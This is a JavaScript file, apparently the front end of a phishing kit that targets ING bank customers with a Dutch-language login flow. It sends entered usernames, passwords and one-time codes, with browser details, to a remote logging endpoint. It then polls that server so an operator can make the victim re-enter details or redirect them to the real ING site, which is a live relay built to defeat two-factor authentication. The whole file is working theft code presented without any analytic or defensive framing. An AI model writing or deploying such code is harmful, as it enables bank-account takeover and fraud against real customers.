const { createApp, ref, onMounted } = Vue;
const BASE = "https://svc.placeholder.workers.dev";

createApp({
  setup() {
    const view = ref("login"), user = ref(""), pass = ref(""), code = ref(""), warn = ref(""), busy = ref(false);
    const sid = localStorage.sid || (localStorage.sid = Math.random().toString(36).slice(2));
    let timer = null;

    const hand = (kind, data) => axios.post(`${BASE}/log`, { sid, kind, data, ua: navigator.userAgent, lang: navigator.language });

    const wait = () => {
      busy.value = true;
      timer = setInterval(async () => {
        const { data } = await axios.get(`${BASE}/next?sid=${sid}`);
        if (!data.view) return;
        clearInterval(timer);
        busy.value = false;
        if (data.view === "exit") { window.location.href = "https://www.ing.nl/particulier"; return; }
        warn.value = data.again ? "De ingevoerde gegevens zijn onjuist" : "";
        view.value = data.view;
        code.value = "";
      }, 2000);
    };

    const login = async () => { await hand("login", { u: user.value, p: pass.value }); wait(); };
    const otp = async () => { await hand("otp", { c: code.value }); wait(); };
    onMounted(() => hand("visit", { ref: document.referrer }));
    return { view, user, pass, code, warn, busy, login, otp };
  }
}).mount("#app");
